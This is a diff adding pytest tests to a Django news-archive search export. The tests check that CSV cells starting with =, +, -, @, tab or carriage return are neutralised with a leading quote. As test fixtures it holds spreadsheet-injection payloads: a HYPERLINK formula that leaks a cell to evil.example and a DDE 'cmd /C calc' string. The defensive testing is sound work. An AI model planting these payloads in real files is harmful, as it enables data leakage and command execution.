@@ -5,6 +5,7 @@ import io
 import json
 from urllib.parse import quote
 
+import pytest
 from django.utils import timezone
 
 from articles.citations import gbt7714, ris_record
@@ -87,6 +88,53 @@ def test_ris_export_is_one_record_per_result(client, archive):
     assert first["TY"] == "NEWS" and first["TI"] == "法律援助进车间"
     assert first["T2"] == "职工天地" and first["DA"] == "2023/01/01/" and first["SP"] == "A34"
     assert first["AU"] == "王晓明" and first["UR"].endswith(f"/articles/{archive['legal'].pk}/")
+
+
+def csv_rows(response) -> list[dict[str, str]]:
+    table = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))
+    return [dict(zip(table[0], line, strict=True)) for line in table[1:]]
+
+
+HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"点击查看原文")'
+
+
+def test_csv_cells_a_spreadsheet_would_run_as_formulas_start_with_a_quote(client, archive):
+    make_article(
+        archive["legal"].page,
+        headline=HYPERLINK,
+        kicker="+1+cmd|' /C calc'!A0",
+        subtitle="-2+3",
+        byline="",
+        body="<p>电子表格公式测试稿件。</p>",
+        themes=["@SUM(1+1)"],
+    )
+    response = client.get("/search/", {"q": "电子表格公式", "format": "csv"})
+    assert response.status_code == 200
+    text = response.content.decode("utf-8-sig")
+    # Excel and LibreOffice show a cell written '=… as the text =…, and run nothing.
+    written = HYPERLINK.replace('"', '""')
+    assert f'"\'{written}"' in text
+    [row] = csv_rows(response)
+    assert row["主标题"] == "'" + HYPERLINK
+    assert row["引题"] == "'+1+cmd|' /C calc'!A0" and row["副标题"] == "'-2+3" and row["主题"] == "'@SUM(1+1)"
+    # Cells a spreadsheet reads as text anyway are as written.
+    assert row["引文"] == "《职工天地》(2023年01月01日 第A34版)" and row["日期"] == "2023-01-01"
+    assert not any(cell.startswith("=") for line in csv.reader(io.StringIO(text)) for cell in line)
+
+
+@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
+def test_every_start_owasp_names_is_neutralised_and_text_is_kept(client, archive, start):
+    make_article(archive["legal"].page, headline=f"{start}1+1 电子表格", byline="", body="<p>电子表格公式测试。</p>")
+    [row] = csv_rows(client.get("/search/", {"q": "电子表格公式", "format": "csv"}))
+    assert row["主标题"] == f"'{start}1+1 电子表格"
+
+
+def test_json_and_ris_exports_keep_a_formula_like_headline_as_written(client, archive):
+    make_article(archive["legal"].page, headline=HYPERLINK, byline="", body="<p>电子表格公式测试稿件。</p>")
+    data = json.loads(client.get("/search/", {"q": "电子表格公式", "format": "json"}).content)
+    assert [r["headline"] for r in data["results"]] == [HYPERLINK]
+    records = parse_ris(client.get("/search/", {"q": "电子表格公式", "format": "ris"}).content.decode())
+    assert [dict(record)["TI"] for record in records] == [HYPERLINK]
 
 
 def test_export_of_nothing_is_refused_with_a_message(client, archive):
